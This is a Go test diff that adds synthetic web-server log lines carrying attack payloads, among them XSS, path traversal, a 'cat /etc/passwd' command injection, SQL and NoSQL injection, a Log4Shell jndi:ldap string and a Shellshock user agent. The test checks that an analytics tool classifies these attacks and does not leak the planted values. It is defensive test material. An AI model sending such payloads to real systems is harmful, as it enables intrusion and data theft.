@@ -34,6 +34,8 @@ var planted = map[string][]string{
 	"IBAN":              {"DE89370400440532013000"},
 	"query string":      {"plantedquery", "secretvalue"},
 	"user name":         {"planteduser"},
+	"attacker":          {"203.0.114.55", "2001:db8:cccc:dddd"},
+	"payload":           {"plantedpayload"},
 }
 
 const plantedJWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.plantedsignature0123456789abcdefghij"
@@ -68,6 +70,26 @@ func plantedLines(broken bool) []string {
 			}[i/40%4]
 		}
 		lines = append(lines, line)
+	}
+	return append(lines, attacks(agents[0])...)
+}
+
+// attacks are lines with a payload in each place that one can stand in. Their shortened network may be kept.
+func attacks(agent string) (lines []string) {
+	for i, a := range []struct{ target, referrer, agent string }{
+		{"/shop/%3Cscript%3Ealert('plantedpayload')%3C/script%3E/plantedpayload", "-", agent},
+		{"/static/..%2f..%2f..%2fetc/plantedpayload", "-", agent},
+		{"/a;cat%20/etc/passwd;plantedpayload", "-", agent},
+		{"/?id=1'+union+select+'plantedpayload'--", "-", agent},
+		{"/?plantedpayload%5B$ne%5D=1", "-", agent},
+		{"/", "${jndi:ldap://plantedpayload.example/a}", agent},
+		{"/", "https://example.net/?q=<script>plantedpayload</script>", agent},
+		{"/", "-", "() { :;}; /bin/bash -c plantedpayload"},
+		{"/", "-", "sqlmap/1.7 plantedpayload"},
+		{"http://plantedpayload.example/", "-", agent},
+	} {
+		addr := []string{"203.0.114.55", "2001:db8:cccc:dddd::9"}[i%2]
+		lines = append(lines, fmt.Sprintf(`%s - - [10/Oct/2025:13:20:%02d +0200] "GET %s HTTP/1.1" 404 512 "%s" "%s" "-"`, addr, i, a.target, a.referrer, a.agent))
 	}
 	return lines
 }
@@ -119,6 +141,9 @@ func TestNothingLeaks(t *testing.T) {
 	}
 	if n := sums(t, data, "SELECT sum(requests) FROM minutes"); n == "0" {
 		t.Error("nothing was imported: the search proves nothing")
+	}
+	if n := sums(t, data, "SELECT uniqExact(threat) FROM signals WHERE site = 'example.org' AND threat != ''"); n != "7" {
+		t.Errorf("%s classes of attacks were recognised, want 7: the search proves less", n)
 	}
 	search(t, "the dashboard", pages(t, base))
 	said, err := p.stop(t, syscall.SIGINT)
